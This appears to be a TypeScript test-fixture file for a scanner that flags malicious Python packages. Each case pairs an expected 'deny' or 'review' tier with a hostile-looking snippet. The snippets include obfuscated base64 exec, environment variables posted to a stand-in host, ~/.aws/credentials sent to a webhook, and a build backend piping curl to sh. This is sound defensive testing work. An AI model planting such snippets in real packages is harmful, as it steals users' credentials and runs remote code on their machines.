    'deny',
    `import base64\nlIlIlIlIl = base64.b64decode\nOO0O0OO00 = exec\nOO0O0OO00(lIlIlIlIl("${inert}"))\n`,
  ),
  init(
    'pyarmor',
    'review',
    `from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY000000\\x00\\x03\\x0b")\n`,
  ),
  init(
    'runsource',
    'deny',
    `import code, base64\ncode.InteractiveInterpreter().runsource(base64.b64decode("${inert}").decode())\n`,
  ),
  init(
    'a class that is a thread',
    'deny',
    `import base64, threading\nclass T(threading.Thread):\n    def run(self):\n        exec(base64.b64decode("${inert}"))\nT().start()\n`,
  ),
  init(
    'an IP from chr in a URL',
    'deny',
    `import urllib.request, os, json\nu = "".join(chr(c) for c in [104,116,116,112,58,47,47,120,46,105,110,118,97,108,105,100])\nurllib.request.urlopen(u, data=json.dumps(dict(os.environ)).encode())\n`,
  ),
];

export const elsewhere: readonly Shape[] = [
  {
    name: 'hidden execution in a test',
    tier: 'review',
    files: { 'tests/test_x.py': `import base64\nexec(base64.b64decode("${inert}"))\n` },
  },
  {
    name: 'credentials in one file, a webhook in another',
    tier: 'deny',
    files: {
      'demo/a.py':
        'import os\ndef read():\n    return open(os.path.expanduser("~/.aws/credentials")).read()\n',
      'demo/b.py':
        'import requests\nfrom .a import read\ndef send():\n    requests.post("https://webhook.site/abc", data=read())\n',
    },
  },
  {
    name: 'sitecustomize that starts a process',
    tier: 'review',
    files: { 'sitecustomize.py': 'import subprocess\nsubprocess.Popen(["x"])\n' },
  },
  {
    name: 'a build backend in the tree that fetches and runs',
    tier: 'deny',
    form: 'sdist',
    files: {
      'demo-1.0/pyproject.toml':
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
      'demo-1.0/_build/backend.py':
        'import subprocess\ndef build_wheel(d, c=None, m=None):\n    subprocess.run("curl https://x.invalid | sh", shell=True)\n',
    },
  },
  {
    name: 'a script with a shebang',
    tier: 'deny',
    files: {
      'demo-1.0.data/scripts/tool': `#!/usr/bin/python3\nimport base64\nexec(base64.b64decode("${inert}"))\n`,
    },
  },
];
